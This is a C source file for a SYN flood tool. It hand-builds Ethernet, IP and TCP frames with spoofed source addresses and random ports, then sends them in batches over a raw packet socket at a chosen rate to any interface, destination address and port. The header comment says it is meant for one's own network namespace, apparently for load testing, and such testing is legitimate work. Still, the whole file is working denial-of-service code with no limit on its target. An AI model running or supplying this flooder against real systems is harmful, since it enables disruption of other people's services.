/*
 * A SYN flood, for a namespace of one's own: spoofed SYNs onto an interface at a given rate, each
 * from an address and port that nobody has.
 *
 * usage: flood INTERFACE DEST-MAC DEST-ADDRESS PORT RATE SECONDS
 * SIGTERM ends it sooner. Prints how many the interface took, how many a second, and how many a
 * second it was offered.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <signal.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64

struct frame {
	struct ethhdr eth;
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t options[20];
} __attribute__((packed));

static volatile sig_atomic_t over;

static void end(int number)
{
	over = number;
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint32_t sum(const void *data, size_t n)
{
	const uint8_t *p = data;
	uint32_t s = 0;
	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)p[i] << 8 | p[i + 1];
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons((uint16_t)~s);
}

static uint64_t rnd(uint64_t *seed)
{
	*seed ^= *seed << 13;
	*seed ^= *seed >> 7;
	*seed ^= *seed << 17;
	return *seed;
}

static void make(struct frame *f, uint64_t *seed, uint32_t dst, uint16_t port)
{
	static const uint8_t options[20] = {2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 1, 0, 0, 0, 0, 0, 1,
		3, 3, 7};
	uint64_t r = rnd(seed);
	f->eth.h_proto = htons(ETH_P_IP);
	f->ip = (struct iphdr){.version = 4,
		.ihl = 5,
		.ttl = 64,
		.protocol = IPPROTO_TCP,
		.tot_len = htons(sizeof *f - sizeof f->eth),
		.daddr = dst,
		.saddr = htonl(0xc6120000u | (uint32_t)(r & 0x1ffff))}; /* 198.18.0.0/15 */
	f->ip.check = fold(sum(&f->ip, sizeof f->ip));
	f->tcp = (struct tcphdr){.source = htons((uint16_t)(1024 + (r >> 20) % 60000)),
		.dest = htons(port),
		.seq = htonl((uint32_t)(r >> 32)),
		.syn = 1,
		.doff = 10,
		.window = htons(64240)};
	memcpy(f->options, options, sizeof options);
	uint32_t s = sum(&f->ip.saddr, 8) + IPPROTO_TCP + sizeof f->tcp + sizeof f->options;
	f->tcp.check = fold(s + sum(&f->tcp, sizeof f->tcp + sizeof f->options));
}

int main(int argc, char **argv)
{
	if (argc != 7)
		return 2;
	static struct frame frames[BATCH];
	struct mmsghdr messages[BATCH];
	struct iovec vectors[BATCH];
	unsigned char mac[6];
	uint64_t seed = 88172645463325252u, sent = 0, offered = 0;
	double rate = atof(argv[5]), seconds = atof(argv[6]);
	int fd = socket(AF_PACKET, SOCK_RAW, 0), one = 1;
	struct sockaddr_ll to = {.sll_family = AF_PACKET,
		.sll_ifindex = (int)if_nametoindex(argv[1])};
	sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
		&mac[4], &mac[5]);
	if (fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof to) != 0) {
		perror("flood");
		return 1;
	}
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
	memset(messages, 0, sizeof messages);
	for (int i = 0; i < BATCH; i++) {
		memcpy(frames[i].eth.h_dest, mac, 6);
		memcpy(frames[i].eth.h_source, "\x02\x00\x00\x00\x00\x99", 6);
		vectors[i] = (struct iovec){&frames[i], sizeof frames[i]};
		messages[i].msg_hdr.msg_iov = &vectors[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	signal(SIGTERM, end);
	double began = now(), t;
	while ((t = now() - began) < seconds && !over) {
		if ((double)offered > t * rate) {
			usleep(100);
			continue;
		}
		for (int i = 0; i < BATCH; i++)
			make(&frames[i], &seed, inet_addr(argv[3]), (uint16_t)atoi(argv[4]));
		int n = sendmmsg(fd, messages, BATCH, 0);
		sent += n > 0 ? (uint64_t)n : 0;
		offered += n > 0 ? (uint64_t)n : 1; /* the first found no room */
		if (n <= 0 && errno != ENOBUFS && errno != EAGAIN) {
			perror("flood");
			return 1;
		}
	}
	printf("%llu %.0f %.0f\n", (unsigned long long)sent, (double)sent / t, (double)offered / t);
	return 0;
}
